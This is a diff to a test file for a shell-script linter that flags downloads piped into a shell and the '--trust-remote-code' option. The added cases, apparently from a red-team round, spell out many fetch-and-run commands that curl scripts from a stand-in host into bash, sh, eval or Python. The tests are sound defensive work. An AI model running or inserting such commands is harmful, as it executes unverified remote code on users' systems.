@@ -170,8 +170,12 @@ def test_garbage_commands_never_raise(command: str) -> None:
 def test_command_segments_start_at_the_program() -> None:
     assert command_segments("sudo -E env A=1 vllm serve m && echo 'a | b'") == [
         ("sudo -E env A=1 vllm serve m ", ["vllm", "serve", "m"]),
-        (" echo 'a ", ["echo", "'a"]),  # a quoted pipe still splits: a stray quote must hide nothing
-        (" b'", ["b'"]),
+        (" echo 'a | b'", ["echo", "a | b"]),  # quotes that pair up: the pipe inside is text
+    ]
+    # a stray quote (an apostrophe) pairs with nothing: every separator still splits
+    assert command_segments("echo it's | vllm serve m") == [
+        ("echo it's ", ["echo", "it's"]),
+        (" vllm serve m", ["vllm", "serve", "m"]),
     ]
 
 
@@ -233,6 +237,15 @@ def test_a_download_piped_to_a_shell_inside_a_shell_script_is_found(command: str
         "curl -fsSL https://x.example/i.sh | sudo -Hu app bash",
         'msg="$(printf "can\'t")"; curl -fsSL https://x.example/i.sh | bash  # don\'t worry',
         "python3 -c \"exec( '$(curl -fsSL https://x.example/i.sh)' )\"",
+        # Second red team (stop 43): redirections after the shell, subshells, case arms, `function`,
+        # runuser, $PYTHON, /dev/stdin as the script.
+        "curl -fsSL https://x.example/i.sh | sh 2>&1 | tee setup.log",
+        "(cd /tmp && curl -fsSL https://x.example/i.sh | sh)",
+        'case "$OS" in Linux) eval "$(curl -fsSL https://x.example/i.sh)" ;; esac',
+        "function setup { bash <(curl -fsSL https://x.example/i.sh); }",
+        "curl -fsSL https://x.example/i.sh | runuser -u app -- bash",
+        "curl -fsSL https://x.example/i.py | $PYTHON -",
+        "curl -fsSL https://x.example/i.sh | bash /dev/stdin",
     ],
 )
 def test_substitutions_and_wrapped_shells_that_run_a_download(command: str) -> None:
@@ -270,6 +283,11 @@ def test_substitutions_and_wrapped_shells_that_run_a_download(command: str) -> N
         "curl -s https://x.example/release.json | python3 scripts/parse_release.py",
         "curl -s https://x.example/report.txt | bash summarise.sh",
         "curl -fsSL https://x.example/tool.tgz | sudo sh -c 'tar -xz -C /usr/local'",
+        "pip install -r requirements.txt  # uv users: curl -LsSf https://astral.sh/uv/install.sh | sh",
+        "python3 -c 'import json,sys; print(json.load(sys.stdin))' <<< \"$(curl -s https://x.example/a.json)\"",
+        "python3 parse.py < <(curl -s https://x.example/a.json)",
+        "a=( $(curl -s https://x.example/list) )",  # an array of words, not a command
+        "curl -fsSL https://x.example/key.asc | sudo sh -c 'gpg --dearmor > /usr/share/keyrings/x.gpg'",
     ],
 )
 def test_substitutions_and_wrappers_that_run_no_download(command: str) -> None:
@@ -293,6 +311,37 @@ def test_a_file_run_from_a_download_is_found_inside_substitutions_and_reported_o
         (7, "OUT=$(python export.py --model c)"),  # downloaded again, run inside a substitution
     ]
     assert [(i.rule.rule_id, i.line) for i in shell_issues(lines, RULES)] == [("MLS322", 4), ("MLS322", 7)]
+
+
+def test_a_verified_download_is_no_unchecked_run() -> None:
+    codecov = [
+        (1, "curl -Os https://uploader.codecov.io/latest/linux/codecov"),
+        (2, "curl -Os https://uploader.codecov.io/latest/linux/codecov.SHA256SUM"),
+        (3, "shasum -a 256 -c codecov.SHA256SUM"),  # the list names codecov: verified
+        (4, "chmod +x codecov && ./codecov"),
+    ]
+    assert shell_issues(codecov, RULES) == []
+    signed = [(1, "curl -fsSLO https://x.example/i.sh"), (2, "gpg --verify i.sh.asc i.sh"), (3, "bash i.sh")]
+    assert shell_issues(signed, RULES) == []
+    unsigned = [(1, "curl -fsSLO https://x.example/i.sh"), (2, "gpg --verify other.asc other"), (3, "bash i.sh")]
+    assert [(i.rule.rule_id, i.line) for i in shell_issues(unsigned, RULES)] == [("MLS322", 3)]
+
+
+def test_trust_remote_code_in_a_case_pattern_or_printed_text_is_no_option() -> None:
+    assert not passes_trust_remote_code("--trust-remote-code) TRUST=1 ;;")
+    assert not passes_trust_remote_code('echo "Usage: serve.sh\n  --trust-remote-code    let the model run code"')
+    assert passes_trust_remote_code("vllm serve org/m --trust-remote-code")
+    started = time.perf_counter()
+    passes_trust_remote_code("vllm --trust-remote-code" + " " * 200_000 + "x")  # was quadratic: hours at 1 MB
+    assert time.perf_counter() - started < 30
+
+
+def test_many_downloads_and_runs_are_linear() -> None:
+    started = time.perf_counter()
+    lines = [(2 * n + 1, f"wget https://x.example/f{n}.sh") for n in range(20_000)]
+    lines += [(2 * n + 2, f"bash g{n}.sh") for n in range(20_000)]
+    shell_issues(lines, RULES)
+    assert time.perf_counter() - started < 60  # a guard against quadratic time, not a speed goal
 
 
 def test_a_long_pipe_of_interpreters_is_linear() -> None:
